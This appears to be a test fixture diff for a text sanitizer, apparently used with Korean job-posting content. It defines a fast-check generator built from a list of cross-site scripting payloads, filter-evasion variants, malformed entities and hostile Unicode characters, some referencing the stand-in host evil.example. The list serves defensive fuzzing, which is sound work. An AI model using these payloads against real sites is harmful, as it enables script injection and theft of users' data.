@@ -1,0 +1,95 @@
+import fc from 'fast-check';
+
+/** Markup, entities and invisible characters that try to be something else than text. */
+export const HOSTILE: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert(1)//',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">지원하기</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a title="x>y" href=z>글</a>',
+  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<scr<b>ipt>alert(1)</scr</b>ipt>',
+  '<<b>script>alert(1)<</b>/script>',
+  '<scr\u200bipt>alert(1)</scr\u200bipt>',
+  '<scr&#8203;ipt>alert(1)</scr&#8203;ipt>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&#x26;#x3c;b&#x26;#x3e;굵게',
+  '&&amp;amp;lt;b&gt;',
+  '&#38;#38;#38;lt;b&gt;',
+  '<style>body{display:none}</style>',
+  '<style>@import "//evil.example"',
+  '<title><b>제목</b></title>',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><script>alert(1)</script>-->',
+  '<!-- 숨김 --> 보임',
+  '<!-- 닫히지 않음 <b>굵게</b>',
+  '<![CDATA[<b>글</b>]]>',
+  '<![CDATA[닫히지 않음 <b>',
+  '<?xml version="1.0"?><b>글</b>',
+  '<!DOCTYPE html><html><body>글</body></html>',
+  '<plaintext>글<b>굵게',
+  '<xmp><b>글</b></xmp>',
+  '<b \u0000 onclick=x>글</b>',
+  '<form action=//evil.example><input type=submit value=지원>',
+  '\u202e문장\u202c 뒤집기',
+  '가\u200b나\u200c다\u2060라\ufeff',
+  '\u3164\u115f\u1160\uffa0',
+  '\u0007\u001b[31m빨강\u0085',
+  '\ud800 \udfff',
+  '\ufffe\uffff\ufdd0',
+  'A\u2028B\u2029C',
+  '\u1112\u1161\u11ab\u1100\u1173\u11af',
+  'R&D <3년 이상> & 임금 < 300만원 > 250만원',
+  'List<String> <bold> </>',
+  'https://example.com/?a=1&copy=2&lt=3',
+  '<',
+  '&',
+  '&#0;&#xd800;&#x110000;&#1114112;',
+  '<a "<a "<a "',
+  '<a \'"<b ',
+  '</p',
+  '<b',
+  '<b ',
+];
+
+const pieces = [
+  ...'< > </ /> & ; # " \' = ! ? [ ] -- b p br script style title li a amp; lt; gt; nbsp; #38; #x3c; CDATA[ 가 창원'.split(
+    ' ',
+  ),
+  ' ',
+  '\n',
+  '\t',
+  '나\u0301',
+  '\u1100\u1161',
+  '\u200b',
+  '\u202e',
+  '\u3164',
+  '\ud83d',
+  '\ude00',
+  '\u00a0',
+  '\u0338',
+  '\u037e',
+];
+
+/** Hostile strings, whole and in pieces put together anew. */
+export const hostileText = (maxLength: number): fc.Arbitrary<string> =>
+  fc
+    .array(
+      fc.oneof(
+        { weight: 4, arbitrary: fc.constantFrom(...pieces) },
+        { weight: 1, arbitrary: fc.constantFrom(...HOSTILE) },
+      ),
+      {
+        maxLength,
+      },
+    )
+    .map((all) => all.join(''));
